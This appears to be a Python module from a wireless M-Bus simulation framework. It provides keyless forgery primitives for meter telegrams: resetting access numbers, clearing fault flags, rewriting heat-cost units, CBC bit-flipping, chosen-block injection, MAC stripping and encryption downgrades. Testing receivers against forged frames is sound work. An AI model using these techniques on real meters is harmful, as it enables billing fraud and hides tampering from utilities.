"""What can be changed in a telegram without its key. No attack by itself; the attacks that forge use these.

Everything here follows from two facts. In modes 0 and 5 nothing authenticates a telegram: header bytes can be set at
will, in mode 5 at the price of garbling what the changed IV touches; bytes after the N encrypted blocks are in clear.
In mode 7 the CMAC covers everything from the transport layer's CI on, so every change here breaks it.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime
from functools import lru_cache

from sim.core.clock import Calendar
from wmbus.afl import FCL_MCR, MCL_AT, Afl
from wmbus.dates import decode_f, encode_f
from wmbus.ell import CI_I
from wmbus.errors import BadTelegram
from wmbus.records import Record, parse_records
from wmbus.security import MAC_BYTES
from wmbus.sender import CC_SYNCHRONOUS
from wmbus.telegram import Telegram, parse
from wmbus.transport import CI_NONE, CI_SHORT

HCA_RECORD = bytes.fromhex("036e")  # current units, 24-bit integer
CLOCK_RECORD = bytes.fromhex("046d")  # date and time, type F
FLAGS_RECORD = bytes.fromhex("02fd17")  # error flags, 16 bits
FAULT_DATE = bytes.fromhex("326c")  # when it found a fault, type G
TEXT_HEAD = bytes.fromhex("0d78")  # a text (fabrication number) whose length stands in the byte behind
IDLE = 0x2F
PUBLISHED = {
    "QDS": bytes.fromhex("2f2f0b6e0900004b6e610300426c3f3ccb086e610300c2086c3f3c326cffff046d1c014531"),
    "TCH": bytes.fromhex(
        "2f2f036e090000436e690100426c3f3c83046e3f010082046c1f3a8d04ee1f1e72fe"
        "220055004e003c004c0020000c0000000000010001000d002c002c00"
    ),
    "VIP": bytes.fromhex(
        "2f2f02fd1700000d78083935393030363332026e0900047500000000046d1c014531426c3f3c426e6901"
        "4475af0200000266aa00025a8d01047400000000"
    ),
}
"""What a maker's meters say, in the layout of published telegrams; only the values differ."""
FIRST_BLOCK_TAIL = {"VIP": 4}
"""Bytes of a record that the first encrypted block of a maker's telegram leaves open; the next clear bytes complete
it (known from published telegrams of that type)."""
_KNOWN = 16_384
"""Frames whose access number is kept: an attacker who waits for a wrap looks at the same ones again and again."""


def header_offsets(telegram: Telegram) -> tuple[int, int, int]:
    """Places of ACC, STS and CFG in the frame. Raises ValueError when it has no such header."""
    transport = telegram.transport
    if transport is None or transport.acc is None:
        raise ValueError("its transport layer has no access number")
    acc = transport.offset + (1 if transport.address is None else 9)
    return acc, acc + 1, acc + 2


def access_number(frame: bytes) -> int:
    """The transport layer's access number; the link layer's when there is none."""
    return _number_of(frame)


@lru_cache(_KNOWN)
def _number_of(frame: bytes) -> int:
    return parse(frame).acc or 0


def with_access_number(frame: bytes, acc: int) -> bytes:
    """The same telegram under another access number (in the extended link layer too, when there is one)."""
    telegram = parse(frame)
    forged = bytearray(frame)
    forged[header_offsets(telegram)[0]] = acc
    if telegram.ell is not None:
        forged[12] = acc  # L C M2 ID4 V T | CI CC ACC
    return bytes(forged)


def fitting_number(maker: str, old: int, latest: int, ahead: int = 64) -> int:
    """An access number that is new after the latest, for a telegram that was sent under the old one. In mode 5 bytes 8
    to 15 of the plaintext turn over with it; of the numbers ahead the first is taken that leaves records which can be
    read, by what is published of the maker's telegrams. Of an unknown maker, or where none fits, the next."""
    plaintext = PUBLISHED.get(maker, b"")
    for step in range(1, ahead + 1):
        acc = (latest + step) % 256
        turned = bytes(byte ^ (acc ^ old if 8 <= place < 16 else 0) for place, byte in enumerate(plaintext))
        if plaintext and _reads(turned, plaintext):
            return acc
    return (latest + 1) % 256


def _reads(turned: bytes, plaintext: bytes) -> bool:
    """Does a strict receiver find records where they were, and as many different ones?"""
    try:
        now, before = parse_records(turned), parse_records(plaintext)
    except BadTelegram:
        return False
    in_place = [(one.offset, len(one.raw)) for one in now] == [(one.offset, len(one.raw)) for one in before]
    return in_place and len(set(map(_subject, now))) >= len(set(map(_subject, before)))


def _subject(record: Record) -> tuple[str, str, int, int, int]:
    return record.quantity, record.function, record.storage, record.tariff, record.chain.subunit


def with_status(frame: bytes, flip: int) -> bytes:
    """The same telegram with bits of its status byte turned over."""
    forged = bytearray(frame)
    forged[header_offsets(parse(frame))[1]] ^= flip
    return bytes(forged)


def with_status_cleared(frame: bytes, bits: int) -> bytes:
    """The same telegram with bits of its status byte off, if they were on."""
    forged = bytearray(frame)
    forged[header_offsets(parse(frame))[1]] &= 0xFF ^ bits
    return bytes(forged)


def without_complaint(frame: bytes) -> bytes:
    """Mode 0: no error in the status byte, and in clear records no date of a fault (326C reads FFFF while there is
    none)."""
    telegram = parse(frame)
    cleared = bytearray(with_status_cleared(frame, 0x08))
    for one in parse_records(frame[telegram.payload_offset :], strict=False, offset=telegram.payload_offset):
        if one.dif_vif == FAULT_DATE:
            begin = one.offset + len(one.dif_vif)
            cleared[begin : begin + len(one.raw)] = b"\xff" * len(one.raw)
    return bytes(cleared)


def with_units(frame: bytes, units: int, maker: str) -> bytes:
    """Mode 5: keep the first encrypted block, cut the others, append current units in clear (N becomes 1). Mode 0:
    write over the units, in whatever coding they have; append them where there are none. Other modes: the surgery of
    mode 5, for a receiver that fails open. Raises CannotEncode for units that the meter's own coding does not hold."""
    record = HCA_RECORD + units.to_bytes(3, "little")
    telegram = parse(frame)
    if telegram.mode != 0:
        return cut_to_first_block(frame, record, maker)
    for one in parse_records(frame[telegram.payload_offset :], strict=False, offset=telegram.payload_offset):
        if (one.quantity, one.function, one.storage) == ("heat cost allocation", "instantaneous", 0):
            begin = one.offset + len(one.dif_vif)
            return frame[:begin] + one.chain.encode(units) + frame[begin + len(one.raw) :]
    return with_tail(frame, record)


def records_now(units: int, at: datetime) -> bytes:
    """Two records in clear: current units, and the date and time that a meter would show."""
    return HCA_RECORD + units.to_bytes(3, "little") + CLOCK_RECORD + encode_f(at)


def with_tail(frame: bytes, records: bytes) -> bytes:
    """The same telegram with records in clear behind what it carries."""
    return _resized(frame + records)


def cut_to_first_block(frame: bytes, records: bytes, maker: str) -> bytes:
    """N lowered to 1, everything behind the first encrypted block replaced by records in clear."""
    telegram = parse(frame)
    cfg = header_offsets(telegram)[2]
    head = bytearray(frame[: telegram.payload_offset + 16])
    head[cfg] = (head[cfg] & 0x0F) | 0x10
    return _resized(bytes(head) + b"0" * FIRST_BLOCK_TAIL.get(maker, 0) + records)


def with_block_flipped(frame: bytes, block: int, flip: int = 0x01, *, at: int = 0) -> bytes:
    """Bits of one byte (`at`) of one ciphertext block turned over: in CBC the same byte of the next block's plaintext
    changes by just those bits, and this block's becomes noise. The first block cannot be spared: it begins 2F2F."""
    telegram = parse(frame)
    forged = bytearray(frame)
    forged[telegram.payload_offset + 16 * block + at] ^= flip
    return bytes(forged)


def with_chosen_block(frame: bytes, first_block: bytes, record: bytes) -> bytes:
    """Mode 5: two blocks appended, of which the second decrypts to idle bytes and `record`. `first_block` is the
    plaintext of the telegram's first block, which gives what that ciphertext block is before chaining. The first of the
    two becomes noise; the telegram's last two idle bytes are turned into TEXT_HEAD, so that the noise begins with the
    length of a text. The block before the last becomes noise as well. Raises ValueError for fewer than three blocks."""
    telegram = parse(frame)
    start, cfg = telegram.payload_offset, header_offsets(telegram)[2]
    blocks = (len(frame) - start) // 16
    if blocks < 3:
        raise ValueError(f"{blocks} encrypted blocks: the noise needs one between the first and the last")
    first, vector = frame[start : start + 16], frame[2:10] + frame[cfg - 2 : cfg - 1] * 8
    chosen = record.rjust(16, bytes((IDLE,)))
    before = bytes(one ^ other ^ wanted for one, other, wanted in zip(first_block, vector, chosen, strict=True))
    forged = bytearray(frame + before + first)
    for place, wanted in enumerate(TEXT_HEAD, start + 16 * (blocks - 1) - 2):
        forged[place] ^= IDLE ^ wanted
    forged[cfg] = (forged[cfg] & 0x0F) | blocks + 2 << 4
    return _resized(bytes(forged))


def with_short_mac(frame: bytes, mac: bytes) -> bytes:
    """Mode 7 under another MAC, whose length names its authentication type. Raises ValueError without an
    authentication layer, or for a length that has no type."""
    afl = parse(frame).afl
    kinds = [kind for kind, size in MAC_BYTES.items() if size == len(mac)]
    if afl is None or afl.mcl is None or not kinds:
        raise ValueError(f"no authentication layer, or no type has a MAC of {len(mac)} bytes")
    shorter = replace(afl, mcl=(afl.mcl & ~MCL_AT) | kinds[0], mac=mac)
    return _resized(frame[: afl.offset] + shorter.wire() + frame[afl.end :])


def with_version(frame: bytes, flip: int) -> bytes:
    """The same telegram from another version of the meter: in mode 5 the version is byte 6 of the IV, so byte 6 of the
    plaintext changes by the same bits; in mode 7 the MAC does not cover the link layer."""
    forged = bytearray(frame)
    forged[8] ^= flip  # L C M2 ID4 V T
    return bytes(forged)


def with_c_field(frame: bytes, c_field: int) -> bytes:
    """The same telegram as another kind of message; no MAC covers the link layer."""
    return frame[:1] + bytes((c_field,)) + frame[2:]


def with_communication_control(frame: bytes, flip: int) -> bytes:
    """The same telegram with bits of its extended link layer's communication control turned over; no MAC covers it.
    Raises ValueError without that layer."""
    if parse(frame).ell is None:
        raise ValueError("there is no extended link layer")
    forged = bytearray(frame)
    forged[11] ^= flip  # L C M2 ID4 V T | CI CC ACC
    return bytes(forged)


def without_mac(frame: bytes) -> bytes:
    """Mode 7 with an authentication layer that carries the counter and no MAC. Raises ValueError without that layer."""
    afl = parse(frame).afl
    if afl is None or afl.mcr is None:
        raise ValueError("there is no authentication layer to take the MAC out of")
    return _resized(frame[: afl.offset] + Afl(FCL_MCR, mcr=afl.mcr).wire() + frame[afl.end :])


# --- downgrades: a telegram of our own in the meter's name ------------------------------------------------------


def in_mode_0(frame: bytes, records: bytes) -> bytes:
    """A short header that announces no encryption, under the access number expected next."""
    return _of_ours(frame, bytes((CI_SHORT, _next(frame), 0, 0, 0)) + records)


def without_header(frame: bytes, records: bytes) -> bytes:
    """CI 78: records and nothing before them, so nothing that could say how they are secured."""
    return _of_ours(frame, bytes((CI_NONE,)) + records)


def with_no_block(frame: bytes, records: bytes) -> bytes:
    """The meter's own mode announced, and N = 0: not one block is encrypted. In mode 7 with a counter and no MAC."""
    telegram = parse(frame)
    assert telegram.transport is not None
    start = telegram.transport.offset
    acc, _, cfg = header_offsets(telegram)
    header = bytearray(frame[start : telegram.payload_offset])
    header[acc - start] = _next(frame)
    header[cfg - start] &= 0x0F
    afl = telegram.afl
    before = b"" if afl is None or afl.mcr is None else Afl(FCL_MCR, mcr=afl.mcr + 1).wire()
    return _of_ours(frame, before + bytes(header) + records)


def behind_ell(frame: bytes, records: bytes) -> bytes:
    """Mode 0 behind an extended link layer that encrypts nothing either."""
    acc = _next(frame)
    return _of_ours(frame, bytes((CI_I, CC_SYNCHRONOUS, acc, CI_SHORT, acc, 0, 0, 0)) + records)


def _of_ours(frame: bytes, body: bytes) -> bytes:
    """The link layer of `frame`, with the meter's own address, before a body of ours."""
    return _resized(frame[:2] + parse(frame).address.wire() + body)


def _next(frame: bytes) -> int:
    return (access_number(frame) + 1) % 256


def _resized(frame: bytes) -> bytes:
    """L says how many bytes follow it."""
    return bytes((len(frame) - 1,)) + frame[1:]


def with_clock_of(old: bytes, recent: bytes, *, later_minutes: int) -> bytes:
    """Clear telegrams only: the old contents under the recent telegram's date-time, moved on. Returns `old` as it is
    when neither carries a date-time (046D)."""
    try:
        at = old.index(CLOCK_RECORD, parse(old).payload_offset) + 2
        now = decode_f(recent[recent.index(CLOCK_RECORD, parse(recent).payload_offset) + 2 :][:4])
    except (ValueError, BadTelegram):
        return old
    if now is None:
        return old
    moved = Calendar(now).at(later_minutes * 60 * 1_000_000_000).replace(tzinfo=None)
    return old[:at] + encode_f(moved) + old[at + 4 :]
